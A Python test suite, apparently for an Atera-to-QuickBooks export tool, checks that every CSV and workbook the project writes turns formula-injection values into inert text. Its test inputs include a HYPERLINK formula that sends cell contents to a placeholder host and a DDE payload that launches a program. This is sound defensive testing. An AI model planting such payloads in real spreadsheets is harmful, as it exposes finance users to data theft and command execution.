"""Every spreadsheet the project writes keeps a hostile Atera name as text: the review CSV and workbook, the
catalog-replacement preview, the reconciliation CSVs and the export report. An Atera company named
``=HYPERLINK("https://x.example/?"&A2,"Open")`` must never become a live formula in finance's Excel."""
from __future__ import annotations

import csv
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from atera_qbo.cells import RISKY, protect, unprotect
from atera_qbo.export.report import write_report
from atera_qbo.export.result import ExportResult
from atera_qbo.matching.catalog_plan import CatalogPlan, CatalogStep, write_preview
from atera_qbo.matching.review import Entity, MatchStatus, ReviewRow
from atera_qbo.matching.review_csv import read_rows, write_rows, write_xlsx
from atera_qbo.reconcile.findings import Finding
from atera_qbo.reconcile.report import write_csv
from atera_qbo.staging.db import apply_schema, make_engine, table

HOSTILE = ['=HYPERLINK("https://x.example/?"&A2,"Open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\tTabbed", "\rCarriage"]


def cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def assert_inert(path: Path) -> None:
    every = cells(path)
    assert not [c for c in every if c.startswith(RISKY)], f"{path.name} has cells Excel would evaluate"
    for name in HOSTILE:
        assert "'" + name in every, f"{path.name} lost {name!r}"


def test_the_one_rule_round_trips():
    for name in [*HOSTILE, "plain", "", "'quoted"]:
        assert unprotect(protect(name)) == name
    assert protect(None) == "" and protect(Decimal("-1.50")) == "'-1.50"


def test_the_review_csv_and_workbook(tmp_path: Path):
    rows = [ReviewRow(Entity.CUSTOMER, str(i), name, status=MatchStatus.UNMATCHED) for i, name in enumerate(HOSTILE)]
    assert_inert(write_rows(tmp_path / "review.csv", rows))
    assert [r.atera_name for r in read_rows(tmp_path / "review.csv")] == HOSTILE  # read back as they were
    sheet = load_workbook(write_xlsx(tmp_path / "review.xlsx", rows)).active
    values = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type == "s" for c in values)  # text cells, never formulas
    assert {c.value for c in values} >= set(HOSTILE) - {"\rCarriage", "\tTabbed"}


def test_the_catalog_replacement_preview(tmp_path: Path):
    plan = CatalogPlan([CatalogStep("update", f"product:{i}", str(i), name, {"Description": name}, reason=name)
                        for i, name in enumerate(HOSTILE)], [])
    assert_inert(write_preview(tmp_path / "catalog_replacement.csv", plan))


def test_the_reconciliation_csv(tmp_path: Path):
    findings = [Finding("mapping_target_deleted", "critical", "customer", str(i), name, "9", name, detail=name)
                for i, name in enumerate(HOSTILE)]
    assert_inert(write_csv(tmp_path / "mapping_target_deleted.csv", findings))


@pytest.mark.parametrize("dry_run", [False, True])
def test_the_export_report(tmp_path: Path, dry_run: bool):
    engine = make_engine(f"sqlite:///{tmp_path / 'staging.db'}")
    apply_schema(engine)
    now = datetime.now(UTC).replace(tzinfo=None)
    with engine.begin() as conn:
        conn.execute(sa.insert(table("stg_atera_invoices")), [
            {"source_id": str(1000 + i), "invoice_date": "2026-10-01", "customer_name": name,
             "subtotal": Decimal("10.00"), "currency": "USD", "extracted_at": now} for i, name in enumerate(HOSTILE)])
    result = ExportResult("b1", dry_run=dry_run)
    reason = '=HYPERLINK("https://x.example","fix")'
    if dry_run:
        result.would_send = {str(1000 + i): "would be sent as a QBO Invoice (10.00 pre-tax)" for i in range(3)}
        result.blocked = {str(1000 + i): reason for i in range(3, len(HOSTILE))}
    else:
        result.blocked = {str(1000 + i): reason for i in range(len(HOSTILE))}
    path = write_report(engine, result, tmp_path / "export_b1.csv")
    assert_inert(path)
    assert "'" + reason in cells(path)
    engine.dispose()
